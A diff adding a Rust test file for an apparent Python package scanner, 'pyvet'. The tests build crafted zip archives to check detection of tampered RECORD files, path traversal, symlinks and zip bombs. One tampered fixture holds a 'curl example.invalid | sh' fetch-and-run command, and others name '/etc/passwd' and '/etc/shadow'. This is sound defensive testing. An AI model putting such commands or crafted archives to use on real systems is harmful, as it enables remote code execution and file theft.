@@ -1,0 +1,1378 @@
+//! Archive reading on archives generated here: a small test-only zip writer (so we control
+//! every odd corner: prefixes, duplicated end records, zip64, data descriptors, unsupported
+//! methods, unsafe names) and tarballs from the `tar` crate's Builder. Nothing is read from
+//! disk except in the directory-walking tests, which build their tree in a temp directory.
+
+use std::io::{Read, Write};
+use std::time::{Duration, Instant};
+
+use base64::Engine as _;
+use pyvet::archive::{
+    read_artifact, read_artifact_with, read_path, ArchiveContents, ArchiveError, Limits,
+    ReadOptions,
+};
+use pyvet::finding::Severity;
+use sha2::Digest as _;
+
+// ------------------------------------------------------------------------------------------
+// A test-only zip writer.
+
+#[derive(Clone)]
+struct ZEntry {
+    name: Vec<u8>,
+    data: Vec<u8>,
+    /// 0 stored, 8 deflate, anything else is written as-is (data stored raw).
+    method: u16,
+    unix_mode: Option<u32>,
+    flags: u16,
+    descriptor: bool,
+    /// `data` is already compressed: write it as-is whatever the method.
+    precompressed: bool,
+    /// Info-ZIP Unicode Path extra field (0x7075) in the central record.
+    unicode_path: Option<Vec<u8>>,
+}
+
+impl ZEntry {
+    fn new(name: &str, data: &[u8]) -> Self {
+        Self {
+            name: name.as_bytes().to_vec(),
+            data: data.to_vec(),
+            method: 8,
+            unix_mode: None,
+            flags: 0,
+            descriptor: false,
+            precompressed: false,
+            unicode_path: None,
+        }
+    }
+    fn raw_name(name: &[u8], data: &[u8]) -> Self {
+        Self {
+            name: name.to_vec(),
+            ..Self::new("x", data)
+        }
+    }
+    fn stored(mut self) -> Self {
+        self.method = 0;
+        self
+    }
+    fn method(mut self, m: u16) -> Self {
+        self.method = m;
+        self
+    }
+    fn mode(mut self, mode: u32) -> Self {
+        self.unix_mode = Some(mode);
+        self
+    }
+    fn flags(mut self, f: u16) -> Self {
+        self.flags = f;
+        self
+    }
+    fn descriptor(mut self) -> Self {
+        self.descriptor = true;
+        self
+    }
+}
+
+#[derive(Default)]
+struct ZipOpts {
+    prefix: Vec<u8>,
+    comment: Vec<u8>,
+    duplicate_eocd: bool,
+    zip64: bool,
+    /// Extra central records pointing at the first entry's data (overlapping-file bomb).
+    overlap: usize,
+}
+
+fn deflate(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn crc32(data: &[u8]) -> u32 {
+    let mut c = flate2::Crc::new();
+    c.update(data);
+    c.sum()
+}
+
+fn zip_with(entries: &[ZEntry], o: &ZipOpts) -> Vec<u8> {
+    let mut out = o.prefix.clone();
+    let base = out.len();
+    let mut central = Vec::new();
+    for e in entries {
+        let comp = if e.method == 8 && !e.precompressed {
+            deflate(&e.data)
+        } else {
+            e.data.clone()
+        };
+        let crc = crc32(&e.data);
+        let offset = (out.len() - base) as u64;
+        let flags = e.flags | if e.descriptor { 8 } else { 0 } | 0x800;
+        // Local header.
+        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
+        out.extend_from_slice(&20u16.to_le_bytes());
+        out.extend_from_slice(&flags.to_le_bytes());
+        out.extend_from_slice(&e.method.to_le_bytes());
+        out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
+        if e.descriptor {
+            out.extend_from_slice(&[0u8; 12]);
+        } else {
+            out.extend_from_slice(&crc.to_le_bytes());
+            out.extend_from_slice(&(comp.len() as u32).to_le_bytes());
+            out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        }
+        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
+        out.extend_from_slice(&0u16.to_le_bytes());
+        out.extend_from_slice(&e.name);
+        out.extend_from_slice(&comp);
+        if e.descriptor {
+            out.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
+            out.extend_from_slice(&crc.to_le_bytes());
+            out.extend_from_slice(&(comp.len() as u32).to_le_bytes());
+            out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        }
+        // Central record.
+        let mut extra = Vec::new();
+        if let Some(u) = &e.unicode_path {
+            extra.extend_from_slice(&0x7075u16.to_le_bytes());
+            extra.extend_from_slice(&((u.len() + 5) as u16).to_le_bytes());
+            extra.push(1);
+            extra.extend_from_slice(&crc32(&e.name).to_le_bytes());
+            extra.extend_from_slice(u);
+        }
+        let (c32, u32_, o32) = if o.zip64 {
+            extra.extend_from_slice(&1u16.to_le_bytes());
+            extra.extend_from_slice(&24u16.to_le_bytes());
+            // (zip64 and unicode paths are not combined in these tests)
+            extra.extend_from_slice(&(e.data.len() as u64).to_le_bytes());
+            extra.extend_from_slice(&(comp.len() as u64).to_le_bytes());
+            extra.extend_from_slice(&offset.to_le_bytes());
+            (u32::MAX, u32::MAX, u32::MAX)
+        } else {
+            (comp.len() as u32, e.data.len() as u32, offset as u32)
+        };
+        let made_by: u16 = if e.unix_mode.is_some() {
+            0x031e
+        } else {
+            0x0014
+        };
+        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
+        central.extend_from_slice(&made_by.to_le_bytes());
+        central.extend_from_slice(&45u16.to_le_bytes());
+        central.extend_from_slice(&flags.to_le_bytes());
+        central.extend_from_slice(&e.method.to_le_bytes());
+        central.extend_from_slice(&[0, 0, 0x21, 0]);
+        central.extend_from_slice(&crc.to_le_bytes());
+        central.extend_from_slice(&c32.to_le_bytes());
+        central.extend_from_slice(&u32_.to_le_bytes());
+        central.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
+        central.extend_from_slice(&(extra.len() as u16).to_le_bytes());
+        central.extend_from_slice(&0u16.to_le_bytes()); // comment
+        central.extend_from_slice(&0u16.to_le_bytes()); // disk
+        central.extend_from_slice(&0u16.to_le_bytes()); // internal attr
+        central.extend_from_slice(&(e.unix_mode.unwrap_or(0) << 16).to_le_bytes());
+        central.extend_from_slice(&o32.to_le_bytes());
+        central.extend_from_slice(&e.name);
+        central.extend_from_slice(&extra);
+    }
+    if o.overlap > 0 {
+        let name_len = entries[0].name.len();
+        let first = central[..46 + name_len].to_vec();
+        for i in 0..o.overlap {
+            let name = format!("{:0width$}", i, width = name_len);
+            central.extend_from_slice(&first[..46]);
+            central.extend_from_slice(name.as_bytes());
+        }
+    }
+    let cd_offset = (out.len() - base) as u64;
+    out.extend_from_slice(&central);
+    let n = (entries.len() + o.overlap) as u64;
+    if o.zip64 {
+        let z64_offset = (out.len() - base) as u64;
+        out.extend_from_slice(&0x0606_4b50u32.to_le_bytes());
+        out.extend_from_slice(&44u64.to_le_bytes());
+        out.extend_from_slice(&45u16.to_le_bytes());
+        out.extend_from_slice(&45u16.to_le_bytes());
+        out.extend_from_slice(&0u32.to_le_bytes());
+        out.extend_from_slice(&0u32.to_le_bytes());
+        out.extend_from_slice(&n.to_le_bytes());
+        out.extend_from_slice(&n.to_le_bytes());
+        out.extend_from_slice(&(central.len() as u64).to_le_bytes());
+        out.extend_from_slice(&cd_offset.to_le_bytes());
+        out.extend_from_slice(&0x0706_4b50u32.to_le_bytes());
+        out.extend_from_slice(&0u32.to_le_bytes());
+        out.extend_from_slice(&z64_offset.to_le_bytes());
+        out.extend_from_slice(&1u32.to_le_bytes());
+    }
+    let mut eocd = Vec::new();
+    eocd.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
+    eocd.extend_from_slice(&[0u8; 4]);
+    let (n16, size32, off32) = if o.zip64 {
+        (0xFFFFu16, u32::MAX, u32::MAX)
+    } else {
+        (n.min(0xFFFF) as u16, central.len() as u32, cd_offset as u32)
+    };
+    eocd.extend_from_slice(&n16.to_le_bytes());
+    eocd.extend_from_slice(&n16.to_le_bytes());
+    eocd.extend_from_slice(&size32.to_le_bytes());
+    eocd.extend_from_slice(&off32.to_le_bytes());
+    eocd.extend_from_slice(&(o.comment.len() as u16).to_le_bytes());
+    eocd.extend_from_slice(&o.comment);
+    out.extend_from_slice(&eocd);
+    if o.duplicate_eocd {
+        out.extend_from_slice(&eocd);
+    }
+    out
+}
+
+fn zip(entries: &[ZEntry]) -> Vec<u8> {
+    zip_with(entries, &ZipOpts::default())
+}
+
+fn record_hash(data: &[u8]) -> String {
+    format!(
+        "sha256={}",
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data))
+    )
+}
+
+const DI: &str = "demo-1.0.dist-info";
+
+/// Wheel entries with a correct RECORD covering `files` plus METADATA and WHEEL.
+fn wheel_entries(files: &[(&str, &[u8])]) -> Vec<ZEntry> {
+    let metadata =
+        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: idna\n\nbody\n";
+    let mut all: Vec<(String, Vec<u8>)> = files
+        .iter()
+        .map(|(p, d)| (p.to_string(), d.to_vec()))
+        .collect();
+    all.push((format!("{DI}/METADATA"), metadata.to_vec()));
+    all.push((format!("{DI}/WHEEL"), b"Wheel-Version: 1.0\n".to_vec()));
+    let mut record = String::new();
+    for (p, d) in &all {
+        record.push_str(&format!("{p},{},{}\n", record_hash(d), d.len()));
+    }
+    record.push_str(&format!("{DI}/RECORD,,\n"));
+    let mut entries: Vec<ZEntry> = all.iter().map(|(p, d)| ZEntry::new(p, d)).collect();
+    entries.push(ZEntry::new(&format!("{DI}/RECORD"), record.as_bytes()));
+    entries
+}
+
+const WHEEL: &str = "demo-1.0-py3-none-any.whl";
+
+fn read(filename: &str, bytes: &[u8]) -> ArchiveContents {
+    read_artifact(filename, bytes, &Limits::default()).expect("readable")
+}
+
+fn rules(c: &ArchiveContents) -> Vec<&str> {
+    c.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+fn find<'a>(c: &'a ArchiveContents, rule: &str) -> &'a pyvet::finding::Finding {
+    c.findings
+        .iter()
+        .find(|f| f.rule == rule)
+        .unwrap_or_else(|| panic!("no {rule} finding in {:#?}", c.findings))
+}
+
+fn paths(c: &ArchiveContents) -> Vec<&str> {
+    c.entries.iter().map(|e| e.path.as_str()).collect()
+}
+
+// ------------------------------------------------------------------------------------------
+// Wheels and RECORD.
+
+#[test]
+fn normal_wheel_with_correct_record_has_no_findings() {
+    let bytes = zip(&wheel_entries(&[
+        ("demo/__init__.py", b"print('hi')\n"),
+        ("demo/data.bin", &[1, 2, 3]),
+    ]));
+    let c = read(WHEEL, &bytes);
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+    assert_eq!(c.kind, pyvet::package::ArtifactKind::Wheel);
+    assert!(paths(&c).contains(&"demo/__init__.py"));
+    let init = c
+        .entries
+        .iter()
+        .find(|e| e.path == "demo/__init__.py")
+        .unwrap();
+    assert_eq!(init.data, b"print('hi')\n");
+    let md = c.metadata.expect("metadata");
+    assert_eq!(md.name.as_deref(), Some("demo"));
+    assert_eq!(md.version.as_deref(), Some("1.0"));
+    assert_eq!(md.requires_dist, vec!["idna"]);
+}
+
+#[test]
+fn tampered_python_file_is_a_high_record_mismatch() {
+    let mut entries = wheel_entries(&[("demo/__init__.py", b"print('hi')\n")]);
+    entries[0].data = b"import os; os.system('curl example.invalid | sh')\n".to_vec();
+    let c = read(WHEEL, &zip(&entries));
+    let f = find(&c, "record-mismatch");
+    assert_eq!(f.severity, Severity::High);
+    assert_eq!(f.location.path.as_deref(), Some("demo/__init__.py"));
+    assert_eq!(f.artifact.as_deref(), Some(WHEEL));
+    let ev = f.evidence.as_deref().unwrap();
+    assert!(ev.contains(&record_hash(b"print('hi')\n")), "{ev}");
+    assert!(ev.contains("size differs"), "{ev}");
+    assert!(ev.len() <= 210);
+}
+
+#[test]
+fn unlisted_python_file_is_a_record_mismatch_but_signatures_are_not() {
+    let mut entries = wheel_entries(&[("demo/__init__.py", b"")]);
+    entries.push(ZEntry::new("demo/evil.pth", b"import os"));
+    entries.push(ZEntry::new(&format!("{DI}/RECORD.jws"), b"sig"));
+    let c = read(WHEEL, &zip(&entries));
+    let mismatches: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "record-mismatch")
+        .collect();
+    assert_eq!(mismatches.len(), 1, "{:#?}", c.findings);
+    assert_eq!(
+        mismatches[0].location.path.as_deref(),
+        Some("demo/evil.pth")
+    );
+    assert_eq!(mismatches[0].severity, Severity::High);
+    assert!(mismatches[0].message.contains("not listed"));
+}
+
+#[test]
+fn record_entry_missing_from_wheel_and_tampered_data_file_are_medium() {
+    let mut entries = wheel_entries(&[("demo/gone.txt", b"x"), ("demo/blob.bin", b"abc")]);
+    entries.remove(0);
+    let blob = entries
+        .iter_mut()
+        .find(|e| e.name == b"demo/blob.bin")
+        .unwrap();
+    blob.data = b"abd".to_vec();
+    let c = read(WHEEL, &zip(&entries));
+    let gone = c
+        .findings
+        .iter()
+        .find(|f| f.location.path.as_deref() == Some("demo/gone.txt"))
+        .expect("missing file reported");
+    assert_eq!(gone.rule, "record-mismatch");
+    assert_eq!(gone.severity, Severity::Medium);
+    let blob = c
+        .findings
+        .iter()
+        .find(|f| f.location.path.as_deref() == Some("demo/blob.bin"))
+        .expect("tampered data reported");
+    assert_eq!(blob.severity, Severity::Medium);
+    assert!(blob.evidence.as_deref().unwrap().contains("hash differs"));
+}
+
+#[test]
+fn record_with_sha512_and_quoted_paths() {
+    let b64 = |d: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(d);
+    let good = b"x = 1\n";
+    let record = format!(
+        "\"demo/a,b.py\",sha512={},{}\ndemo/c.py,sha512={},6\n{DI}/RECORD,,\n",
+        b64(&sha2::Sha512::digest(good)),
+        good.len(),
+        b64(&sha2::Sha512::digest(good)),
+    );
+    let entries = vec![
+        ZEntry::new("demo/a,b.py", good),
+        ZEntry::new("demo/c.py", b"x = 2\n"),
+        ZEntry::new(&format!("{DI}/RECORD"), record.as_bytes()),
+    ];
+    let c = read(WHEEL, &zip(&entries));
+    let m: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "record-mismatch")
+        .collect();
+    assert_eq!(m.len(), 1, "{:#?}", c.findings);
+    assert_eq!(m[0].location.path.as_deref(), Some("demo/c.py"));
+    assert!(m[0].evidence.as_deref().unwrap().contains("sha512"));
+}
+
+#[test]
+fn wheel_without_record_is_record_missing() {
+    let mut entries = wheel_entries(&[("demo/__init__.py", b"")]);
+    entries.retain(|e| !e.name.ends_with(b"RECORD"));
+    let c = read(WHEEL, &zip(&entries));
+    assert_eq!(rules(&c), vec!["record-missing"]);
+    assert_eq!(c.findings[0].severity, Severity::Medium);
+}
+
+#[test]
+fn record_still_hashes_files_that_are_only_kept_as_a_prefix() {
+    let big: Vec<u8> = (0..3_000_000u32).map(|i| (i * 7 % 251) as u8).collect();
+    let mut entries = wheel_entries(&[("demo/lib.so", &big), ("demo/mod.py", b"x = 1\n")]);
+    let opts = ReadOptions::with_limits(Limits::default());
+    let out = read_artifact_with(WHEEL, &zip(&entries), &opts).unwrap();
+    assert!(
+        out.contents.findings.is_empty(),
+        "{:#?}",
+        out.contents.findings
+    );
+    let so = out
+        .contents
+        .entries
+        .iter()
+        .find(|e| e.path == "demo/lib.so")
+        .unwrap();
+    assert_eq!(so.data, &big[..4096]);
+    assert_eq!(out.partial.get("demo/lib.so"), Some(&(big.len() as u64)));
+    assert!(!out.partial.contains_key("demo/mod.py"));
+    // Change one byte past the kept prefix: RECORD still catches it.
+    entries[0].data[2_000_000] ^= 1;
+    let out = read_artifact_with(WHEEL, &zip(&entries), &opts).unwrap();
+    let f = out
+        .contents
+        .findings
+        .iter()
+        .find(|f| f.rule == "record-mismatch")
+        .expect("mismatch");
+    assert_eq!(f.location.path.as_deref(), Some("demo/lib.so"));
+    // keep_all keeps the whole file.
+    let all = read_artifact_with(
+        WHEEL,
+        &zip(&entries),
+        &ReadOptions::keep_all(Limits::default()),
+    )
+    .unwrap();
+    let so = all
+        .contents
+        .entries
+        .iter()
+        .find(|e| e.path == "demo/lib.so")
+        .unwrap();
+    assert_eq!(so.data.len(), big.len());
+    assert!(all.partial.is_empty());
+}
+
+// ------------------------------------------------------------------------------------------
+// Zip structure.
+
+#[test]
+fn stored_and_data_descriptor_entries() {
+    let mut entries = wheel_entries(&[("demo/a.py", b"a = 1\n"), ("demo/b.py", b"b = 2\n")]);
+    entries[0] = entries[0].clone().stored();
+    entries[1] = entries[1].clone().descriptor();
+    let last = entries.len() - 1;
+    entries[last] = entries[last].clone().descriptor().stored();
+    let c = read(WHEEL, &zip(&entries));
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+    let b = c.entries.iter().find(|e| e.path == "demo/b.py").unwrap();
+    assert_eq!(b.data, b"b = 2\n");
+}
+
+#[test]
+fn zip64_records_and_extra_fields() {
+    let entries = wheel_entries(&[("demo/a.py", b"a = 1\n")]);
+    let bytes = zip_with(
+        &entries,
+        &ZipOpts {
+            zip64: true,
+            ..Default::default()
+        },
+    );
+    let c = read(WHEEL, &bytes);
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+    assert_eq!(c.entries.len(), entries.len());
+}
+
+#[test]
+fn prefix_comment_and_duplicated_end_record_are_tolerated() {
+    let entries = wheel_entries(&[("demo/a.py", b"a = 1\n")]);
+    for opts in [
+        ZipOpts {
+            prefix: b"#!/bin/sh\necho self-extracting stub\n".to_vec(),
+            ..Default::default()
+        },
+        ZipOpts {
+            comment: b"a comment PK mentioning nothing".to_vec(),
+            ..Default::default()
+        },
+        ZipOpts {
+            duplicate_eocd: true,
+            ..Default::default()
+        },
+        ZipOpts {
+            prefix: vec![0xAB; 1000],
+            duplicate_eocd: true,
+            comment: b"c".to_vec(),
+            ..Default::default()
+        },
+        ZipOpts {
+            prefix: vec![7; 33],
+            zip64: true,
+            ..Default::default()
+        },
+    ] {
+        let c = read(WHEEL, &zip_with(&entries, &opts));
+        assert!(c.findings.is_empty(), "{:#?}", c.findings);
+        let a = c.entries.iter().find(|e| e.path == "demo/a.py").unwrap();
+        assert_eq!(a.data, b"a = 1\n");
+    }
+}
+
+#[test]
+fn local_header_disagreeing_with_central_directory_is_ambiguous() {
+    let mut bytes = zip(&[ZEntry::new("pkg/ok.py", b"harmless = 1").stored()]);
+    // Rename the file in its local header only (same length): `pkg/ok.py` -> `pkg/ev.py`.
+    let at = memchr::memmem::find(&bytes, b"pkg/ok.py").unwrap();
+    bytes[at + 4..at + 6].copy_from_slice(b"ev");
+    let c = read("x.zip", &bytes);
+    let f = find(&c, "archive-ambiguous");
+    assert_eq!(f.location.path.as_deref(), Some("pkg/ok.py"));
+    assert!(f.evidence.as_deref().unwrap().contains("pkg/ev.py"));
+    assert_eq!(
+        paths(&c),
+        vec!["pkg/ok.py"],
+        "the central directory is trusted"
+    );
+    // A clean archive has no such finding (data descriptors included).
+    let c = read("x.zip", &zip(&[ZEntry::new("a.py", b"a").descriptor()]));
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+}
+
+#[test]
+fn unicode_path_extra_field_is_the_name_python_uses() {
+    let mut evil = ZEntry::new("pkg/ok.py", b"import os");
+    evil.unicode_path = Some(b"../evil.py".to_vec());
+    let mut renamed = ZEntry::new("pkg/a.py", b"a");
+    renamed.unicode_path = Some(b"pkg/b.py".to_vec());
+    let mut cp437 = ZEntry::raw_name(b"pkg/caf\x82.py", b"c");
+    cp437.unicode_path = Some("pkg/café.py".as_bytes().to_vec());
+    let mut stale = ZEntry::new("pkg/d.py", b"d");
+    stale.unicode_path = Some(b"pkg/e.py".to_vec());
+    let c = read("x.zip", &zip(&[evil, renamed, cp437, stale.clone()]));
+    // The unsafe Unicode name is reported; the content is still read under the header name
+    // that older Pythons install.
+    assert_eq!(paths(&c)[..3], ["pkg/ok.py", "pkg/b.py", "pkg/café.py"]);
+    assert_eq!(
+        find(&c, "path-traversal").location.path.as_deref(),
+        Some("../evil.py")
+    );
+    let amb: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "archive-ambiguous")
+        .map(|f| f.location.path.clone().unwrap())
+        .collect();
+    assert_eq!(amb, vec!["pkg/b.py", "pkg/e.py"], "{:#?}", c.findings);
+    // A field whose CRC does not match the header name is stale and ignored.
+    let mut bytes = zip(&[stale]);
+    let at = memchr::memmem::find(&bytes, b"pkg/e.py").unwrap();
+    bytes[at - 4] ^= 0xFF; // corrupt the stored CRC
+    let c = read("x.zip", &bytes);
+    assert_eq!(paths(&c), vec!["pkg/d.py"]);
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+}
+
+#[test]
+fn unsupported_methods_and_encryption_are_skipped_with_findings() {
+    let mut entries = wheel_entries(&[("demo/a.txt", b"aaa"), ("demo/b.py", b"b")]);
+    entries[0] = entries[0].clone().method(12);
+    entries[1] = entries[1].clone().flags(1);
+    let c = read(WHEEL, &zip(&entries));
+    let unsupported: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "archive-unsupported-entry")
+        .collect();
+    assert_eq!(unsupported.len(), 2, "{:#?}", c.findings);
+    assert_eq!(unsupported[0].severity, Severity::Info);
+    assert!(unsupported[0].message.contains("bzip2"));
+    assert_eq!(unsupported[1].severity, Severity::Medium);
+    // Present but unread: RECORD does not call them missing.
+    assert!(!rules(&c).contains(&"record-mismatch"), "{:#?}", c.findings);
+    assert!(!paths(&c).contains(&"demo/a.txt"));
+}
+
+#[test]
+fn duplicate_entries_with_different_content_are_reported_identical_ones_are_not() {
+    let same = zip(&[ZEntry::new("pkg/a.py", b"x"), ZEntry::new("pkg/a.py", b"x")]);
+    let c = read("pkg-1.0.zip", &same);
+    assert!(c.findings.is_empty(), "{:#?}", c.findings);
+    let differ = zip(&[
+        ZEntry::new("pkg/a.py", b"harmless = 1"),
+        ZEntry::new("pkg/a.py", b"import os"),
+    ]);
+    let c = read("pkg-1.0.zip", &differ);
+    let f = find(&c, "duplicate-entry");
+    assert_eq!(f.severity, Severity::Medium);
+    assert_eq!(f.location.path.as_deref(), Some("pkg/a.py"));
+    assert_eq!(c.entries.len(), 2, "both copies are inspected");
+    let case = zip(&[ZEntry::new("pkg/A.py", b"1"), ZEntry::new("pkg/a.py", b"2")]);
+    let c = read("pkg-1.0.zip", &case);
+    assert_eq!(find(&c, "duplicate-entry").severity, Severity::Low);
+}
+
+#[test]
+fn unsafe_zip_names_are_path_traversal_and_skipped() {
+    let bytes = zip(&[
+        ZEntry::new("../evil.py", b"x"),
+        ZEntry::new("/etc/passwd", b"x"),
+        ZEntry::new("C:\\x", b"x"),
+        ZEntry::new("pkg/../../up.py", b"x"),
+        ZEntry::raw_name(b"pkg/\xff\xfe.py", b"x"),
+        ZEntry::raw_name(b"pkg/nul\0.py", b"x"),
+        ZEntry::new("pkg/ok.py", b"ok"),
+    ]);
+    let c = read("pkg-1.0.zip", &bytes);
+    assert_eq!(paths(&c), vec!["pkg/ok.py"]);
+    let trav: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "path-traversal")
+        .collect();
+    assert_eq!(trav.len(), 6, "{:#?}", c.findings);
+    assert!(trav.iter().all(|f| f.severity == Severity::High));
+    assert_eq!(trav[0].location.path.as_deref(), Some("../evil.py"));
+    assert_eq!(
+        trav[4].location.path.as_deref(),
+        Some("pkg/\u{fffd}\u{fffd}.py")
+    );
+}
+
+#[test]
+fn zip_symlinks_and_devices_are_archive_links() {
+    let bytes = zip(&[
+        ZEntry::new("pkg/inside", b"../pkg/ok.py").mode(0o120_777),
+        ZEntry::new("pkg/outside", b"/etc/shadow").mode(0o120_777),
+        ZEntry::new("pkg/dev", b"").mode(0o020_644),
+        ZEntry::new("pkg/ok.py", b"ok").mode(0o100_644),
+        ZEntry::new("pkg/sub/", b"").mode(0o040_755),
+    ]);
+    let c = read("pkg-1.0.zip", &bytes);
+    assert_eq!(paths(&c), vec!["pkg/ok.py"]);
+    let links: Vec<_> = c
+        .findings
+        .iter()
+        .filter(|f| f.rule == "archive-link")
+        .collect();
+    assert_eq!(links.len(), 3, "{:#?}", c.findings);
+    assert_eq!(links[0].severity, Severity::Medium);
+    assert_eq!(links[1].severity, Severity::High);
+    assert!(links[1]
+        .evidence
+        .as_deref()
+        .unwrap()
+        .contains("/etc/shadow"));
+    assert_eq!(links[2].severity, Severity::High);
+}
+
+#[test]
+fn zip_bomb_is_stopped_without_inflating_everything() {
+    let zeros = vec![0u8; 100 << 20];
+    let bytes = zip(&[
+        ZEntry::new("pkg/bomb.py", &zeros),
+        ZEntry::new("pkg/ok.py", b"ok"),
+    ]);
+    drop(zeros);
+    assert!(bytes.len() < 300_000, "compressed to {}", bytes.len());
+    let t = Instant::now();
+    let c = read("pkg-1.0.zip", &bytes);
+    assert!(t.elapsed() < Duration::from_secs(5));
+    let f = find(&c, "archive-bomb");
+    assert_eq!(f.severity, Severity::Critical);
+    assert_eq!(f.location.path.as_deref(), Some("pkg/bomb.py"));
+    assert!(!paths(&c).contains(&"pkg/bomb.py"));
+    assert!(paths(&c).contains(&"pkg/ok.py"));
+}
+
+#[test]
+fn per_file_and_total_limits_on_plausible_ratios() {
+    // Random-ish data compresses poorly: only the size limits can catch it.
+    let mut x = 0x9E37_79B9_7F4A_7C15u64;
+    let noise: Vec<u8> = (0..300_000)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            x as u8
+        })
+        .collect();
+    let bytes = zip(&[
+        ZEntry::new("a.bin", &noise),
+        ZEntry::new("b.bin", &noise[..1000]),
+    ]);
+    let limits = Limits {
+        max_file_size: 100_000,
+        ..Limits::default()
+    };
+    let c = read_artifact("x.zip", &bytes, &limits).unwrap();
+    let f = find(&c, "archive-bomb");
+    assert_eq!(f.severity, Severity::High);
+    assert_eq!(paths(&c), vec!["b.bin"]);
+    let limits = Limits {
+        max_total_size: 200_000,
+        ..Limits::default()
+    };
+    let bytes = zip(&[
+        ZEntry::new("a.bin", &noise[..150_000]),
+        ZEntry::new("b.bin", &noise[150_000..]),
+        ZEntry::new("c.bin", b"c"),
+    ]);
+    let c = read_artifact("x.zip", &bytes, &limits).unwrap();
+    let f = find(&c, "archive-bomb");
+    assert!(f.message.contains("total"), "{}", f.message);
+    assert!(!paths(&c).contains(&"c.bin"));
+}
+
+#[test]
+fn overlapping_entries_are_stopped_by_the_overall_ratio() {
+    // 900 KB of zeros each: under the per-entry checks, but 2000 records share the data.
+    let bytes = zip_with(
+        &[ZEntry::new("bomb.txt", &vec![0u8; 900_000])],
+        &ZipOpts {
+            overlap: 2000,
+            ..Default::default()
+        },
+    );
+    let t = Instant::now();
+    let c = read("x.zip", &bytes);
+    assert!(t.elapsed() < Duration::from_secs(5));
+    let f = find(&c, "archive-bomb");
+    assert!(f.message.contains("ratio"), "{f:#?}");
+    assert!(c.entries.len() < 100, "{}", c.entries.len());
+}
+
+#[test]
+fn zip_sdist_metadata_and_corrupt_deflate() {
+    let bytes = zip(&[
+        ZEntry::new("demo-1.0/PKG-INFO", PKG_INFO),
+        ZEntry::new("demo-1.0/setup.py", b"setup()"),
+    ]);
+    let c = read("demo-1.0.zip", &bytes);
+    assert_eq!(c.kind, pyvet::package::ArtifactKind::Sdist);
+    assert_eq!(c.metadata.unwrap().name.as_deref(), Some("demo"));
+    let mut entry = ZEntry::new("a.py", &[0xFF; 64]); // invalid deflate data
+    entry.precompressed = true;
+    let mut empty = ZEntry::new("empty.py", b"");
+    empty.precompressed = true; // deflate method with zero compressed bytes
+    let c = read("y.zip", &zip(&[empty]));
+    assert!(c.findings.is_empty() && c.entries[0].data.is_empty());
+    let r = read_artifact("x.zip", &zip(&[entry]), &Limits::default());
+    match r {
+        Err(ArchiveError::Malformed { message, .. }) => {
+            assert!(message.contains("a.py"), "{message}")
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn many_tiny_entries_hit_the_entry_limit_quickly() {
+    let entries: Vec<ZEntry> = (0..100_000)
+        .map(|i| ZEntry::new(&format!("p/{i}.txt"), b"").stored())
+        .collect();
+    let bytes = zip(&entries);
+    let limits = Limits {
+        max_entries: 5_000,
+        ..Limits::default()
+    };
+    let t = Instant::now();
+    let c = read_artifact("many.zip", &bytes, &limits).unwrap();
+    assert!(t.elapsed() < Duration::from_secs(5));
+    assert_eq!(
+        c.entries.len(),
+        5_000,
+        "{:?}",
+        &c.findings[..c.findings.len().min(3)]
+    );
+    assert_eq!(rules(&c), vec!["archive-bomb"]);
+    // Under the default limit all of them are read, still in bounded time.
+    let t = Instant::now();
+    let c = read("many.zip", &bytes);
+    // Generous: debug builds on a shared machine; the point is that it is bounded.
+    assert!(t.elapsed() < Duration::from_secs(20));
+    assert_eq!(c.entries.len(), 100_000);
+    assert!(c.findings.is_empty());
+}
+
+#[test]
+fn long_paths_are_limited() {
+    let long = format!("pkg/{}.py", "a".repeat(2000));
+    let c = read(
+        "x.zip",
+        &zip(&[ZEntry::new(&long, b"x"), ZEntry::new("ok.py", b"")]),
+    );
+    assert_eq!(paths(&c), vec!["ok.py"]);
+    assert_eq!(find(&c, "archive-bomb").severity, Severity::Medium);
+}
+
+#[test]
+fn truncated_or_foreign_bytes_are_malformed_errors() {
+    let bytes = zip(&wheel_entries(&[("demo/a.py", b"a = 1\n")]));
+    for cut in [0, 10, bytes.len() / 2, bytes.len() - 1] {
+        match read_artifact(WHEEL, &bytes[..cut], &Limits::default()) {
+            Err(ArchiveError::Malformed { filename, .. }) => assert_eq!(filename, WHEEL),
+            other => panic!("cut at {cut}: expected Malformed, got {other:?}"),
+        }
+    }
+    let err = read_artifact(WHEEL, b"<html>not a wheel</html>", &Limits::default()).unwrap_err();
+    assert!(err.to_string().contains(WHEEL), "{err}");
+    assert!(matches!(
+        read_artifact("x.exe", b"MZ", &Limits::default()),
+        Err(ArchiveError::Unsupported { .. })
+    ));
+    for name in ["x.tar.gz", "x.tar.bz2", "x.tar.xz"] {
+        assert!(matches!(
+            read_artifact(name, b"plain text", &Limits::default()),
+            Err(ArchiveError::Malformed { .. })
+        ));
+    }
+}
+
